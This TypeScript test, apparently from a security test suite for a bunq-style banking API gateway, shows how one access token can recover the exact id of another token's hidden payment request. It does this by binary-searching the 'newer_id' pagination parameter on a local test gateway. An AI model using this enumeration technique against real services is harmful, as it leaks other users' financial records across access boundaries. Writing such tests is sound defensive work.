import { startTestGateway, type TestGateway } from '../helpers/test-gateway';
import { JSON_CT, auth, sendRaw } from '../attacks/support/kit';

let t: TestGateway;
afterAll(async () => t?.close());

const RI = '{"amount_inquired":{"value":"1.00","currency":"EUR"},"counterparty_alias":{"type":"EMAIL","value":"a@example.com"},"description":"x","allow_bunqme":true}';
const idOf = (text: string) => (JSON.parse(text) as { Response: { Id: { id: number } }[] }).Response[0]!.Id.id;

test("token B recovers the exact id of token A's request-inquiry from page contents (caller-chosen newer_id)", async () => {
  t = await startTestGateway();
  const u = t.user.userId;
  const acc = t.personal.id;
  const scopes = ['read-key-requests', 'create-request'];
  const A = (await t.issue({ scopes, accounts: [acc] }, { name: 'A' })).bearer;
  const B = (await t.issue({ scopes, accounts: [acc] }, { name: 'B' })).bearer;
  const post = (tok: string) =>
    sendRaw(t.url, { method: 'POST', target: `/v1/user/${u}/monetary-account/${acc}/request-inquiry`, headers: [auth(tok), JSON_CT], body: RI });
  const secretOfA = idOf((await post(A)).text);
  const ownOfB = idOf((await post(B)).text); // B's own, newer than A's
  // f(Y): B lists one request newer than Y. Empty <=> the next request above Y is hidden.
  let calls = 0;
  const emptyAbove = async (y: number) => {
    calls++;
    const res = await sendRaw(t.url, { method: 'GET', target: `/v1/user/${u}/monetary-account/${acc}/request-inquiry?count=1&newer_id=${y}`, headers: [auth(B)] });
    expect(res.status).toBe(200);
    return (JSON.parse(res.text) as { Response: unknown[] }).Response.length === 0;
  };
  // Binary search for the largest Y whose next request is hidden: Y + 1 is a hidden id.
  let lo = 1; // emptyAbove(lo) is true (A's request lies above)
  let hi = ownOfB; // emptyAbove(hi - 1)... invariant: emptyAbove(hi) false
  expect(await emptyAbove(lo)).toBe(true);
  while (hi - lo > 1) {
    const mid = Math.floor((lo + hi) / 2);
    if (await emptyAbove(mid)) lo = mid;
    else hi = mid;
  }
  const recovered = lo + 1;
  console.log({ secretOfA, ownOfB, recovered, calls });
  expect(recovered).toBe(secretOfA);
});
